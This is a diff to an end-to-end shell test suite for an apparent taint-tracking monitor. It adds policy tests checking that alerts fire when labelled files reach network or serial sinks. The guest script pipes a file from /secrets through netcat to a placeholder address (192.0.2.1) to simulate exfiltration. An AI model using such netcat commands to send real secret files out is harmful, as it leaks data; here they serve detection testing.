@@ -60,6 +60,10 @@ compat-5.10        5.10                  1     compat,compat-32,EXACT
 compat-6.1         6.1                   2     compat,compat-32,EXACT
 compat-6.12        6.12                  1     compat,compat-32,EXACT
 compat-7.2         7.2                   2     compat,compat-32,SUCCEED
+policy-5.10        5.10                  1     -
+policy-6.1         6.1                   2     -
+policy-6.12        6.12                  1     -
+policy-7.2         7.2                   2     -
 bad-use            -                     -     -
 '
 readonly EVERYTHING='paper negatives names channels memory endings races counters breakpoints'
@@ -439,6 +443,70 @@ judge_stopped()
 	judge_played "$1" "$2" || return 0
 	judge_vm "$1" 1 7.2 'case1 case2 chain'
 }
+
+# ---- policy: labels of the daemon's file reach the VM before it is traced; what comes to a sink is an alert
+
+environment_policy()
+{
+	export NIJIMI_LAB_POLICY=$E2E/policy.yaml
+}
+
+guest_policy()
+{
+	cat <<- 'END'
+		b=/bin/busybox
+		$b ip link set lo up
+		$b ip addr add 192.0.2.1/32 dev lo
+		$b mkdir -p /secrets /plain
+		echo 'the plan' > /secrets/plan
+		echo 'mine' > /plain/mine
+		$b chown 4711 /plain/mine
+		# send PORT ADDRESS FILE [OPTION]
+		send() {
+			$b timeout 4 $b nc $4 -l -p $1 > /dev/null &
+			$b sleep 1
+			$b timeout 2 $b nc $4 $2 $1 < $3
+			wait
+		}
+		send 4801 127.0.0.1 /secrets/plan
+		$b cat /secrets/plan > /plain/copy
+		send 4802 192.0.2.1 /plain/copy
+		send 4803 127.0.0.1 /plain/copy -u
+		send 4803 192.0.2.1 /plain/copy -u
+		send 4804 192.0.2.1 /plain/mine
+		$b cat /plain/copy > /dev/ttyS1
+		call policy || exit 1
+		$b cat /etc/late > /plain/late-copy 2> /dev/null
+		exit 0
+	END
+}
+
+on_policy()
+{
+	"$NIJIMI" state "vm$1" --json > "$OUT/state.json" && "$NIJIMI" alerts --json > "$OUT/alerts.json" &&
+		"$NIJIMI" policy show --json > "$OUT/policy.json"
+}
+
+judge_policy()
+{
+	local alerts=$1/alerts.json
+
+	judge_played "$1" "$2" || return 0
+	want "$(state "$alerts" '[.[] | select(.label == "plans") | "\(.sink) \(.destination) \(.process.comm) \(.path_complete)"] | sort | join(", ")')" \
+		'internet 192.0.2.1:4802 busybox true, internet 192.0.2.1:4803 busybox true, serial /dev/ttyS1 busybox true' 'alerts of plans'
+	want "$(state "$alerts" '[.[] | select(.label == "owned") | "\(.sink) \(.destination) \(.origin.path)"] | join(", ")')" \
+		'internet 192.0.2.1:4804 /plain/mine' 'alerts of owned'
+	want "$(state "$alerts" 'all(.[]; .origin.path == (if .label == "plans" then "/secrets/plan" else "/plain/mine" end))')" true 'origins'
+	want "$(state "$1/policy.json" '.labels | map(select(.name == "plans"))[0].now | length')" 1 'VMs of plans'
+	state "$1/state.json" '.gaps[] | "gap \(.kind) (\(.count)): \(.detail)"'
+}
+
+# The same on every kernel.
+for i in environment guest judge; do
+	for kernel in 5_10 6_1 6_12 7_2; do
+		eval "${i}_policy_$kernel() { ${i}_policy \"\$@\"; }"
+	done
+done
 
 # ---- snapshot: savevm, and loadvm when more has happened. `call save` returns twice.
 
